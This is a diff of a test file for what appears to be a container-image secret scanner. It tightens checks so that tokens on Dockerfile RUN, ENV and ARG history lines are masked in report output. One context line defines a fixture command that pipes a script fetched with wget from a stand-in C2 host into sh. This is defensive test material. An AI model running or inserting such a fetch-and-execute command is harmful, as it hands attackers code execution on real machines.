@@ -264,13 +264,11 @@ SECRETS_EXPECT = [
            floor="high"),
     expect({"secret.stripe-secret-key", "secret.env-secret-name"}, None, None, "", source="config", floor="high"),
     # RUN steps that change no file are empty-layer history entries (layer null) with the classic builder
-    expect({"secret.npm-token", "secret.build-arg"}, None, None, f"|1 NPM_TOKEN={NPM_TOKEN} /bin/sh -c {NPM_RUN}",
-           source="history"),
+    expect({"secret.npm-token", "secret.build-arg"}, None, None, f" /bin/sh -c {NPM_RUN}", source="history"),
     expect({"secret.gitlab-pat", "secret.url-credentials", "secret.command-line-credential"}, None, None,
-           CLONE_RUN, source="history", floor="high"),
+           CLONE_RUN.split(GITLAB_TOKEN)[1], source="history", floor="high"),
     # every RUN after the ARG carries the build argument, also the one that made layer 4
-    expect({"secret.npm-token", "secret.build-arg"}, None, 4, f"|1 NPM_TOKEN={NPM_TOKEN} /bin/sh -c rm /srv/app/.env",
-           source="history"),
+    expect({"secret.npm-token", "secret.build-arg"}, None, 4, " /bin/sh -c rm /srv/app/.env", source="history"),
 ]
 
 FETCH_RUN = f"wget -O- http://{C2}/setup.sh | sh || true"
@@ -404,6 +402,7 @@ def test_secret_evidence_is_masked(scenario_image, scan_ref):
         for value in secrets:
             assert value not in f.evidence, f"{f.rule_id} prints a whole secret: {f.evidence!r}"
             assert value[8:] not in f.evidence, f"{f.rule_id} prints most of a secret: {f.evidence!r}"
+            assert value[8:] not in f.created_by, f"{f.rule_id} history line unmasked: {f.created_by!r}"
 
 
 def test_deleted_env_file_keeps_its_layer(scenario_image, scan_ref):
@@ -501,15 +500,15 @@ def test_cli_sarif_validates(scenario_image, scan_ref):
     assert GITHUB_TOKEN not in done.stdout and AWS_SECRET not in done.stdout
 
 
-@pytest.mark.xfail(strict=True, reason="explorer/engine.py + explorer/reports/*: `created_by` (finding and layer) is "
-                                       "printed verbatim, so a secret on a RUN/ENV/ARG line that a rule masked in "
-                                       "`evidence` is printed whole next to it")
-@pytest.mark.parametrize("fmt", ["json", "sarif"])
+@pytest.mark.parametrize("fmt", ["json", "sarif", "table"])
 def test_reports_do_not_print_history_secrets(scenario_image, fmt):
+    """Secrets on RUN/ENV/ARG lines are masked in `created_by` too, not only in `evidence`."""
     done = _cli(scenario_image("secrets"), "--format", fmt)
     assert done.returncode == 0, done.stderr
+    assert "/srv/app/.env" in done.stdout
     for value in (NPM_TOKEN, GITLAB_TOKEN, STRIPE_KEY):
         assert value not in done.stdout, f"{value[:8]}… printed whole in the {fmt} report"
+        assert value[8:] not in done.stdout, f"{value[:8]}… printed nearly whole in the {fmt} report"
 
 
 def test_cli_fail_on_high(scenario_image, busybox_base):
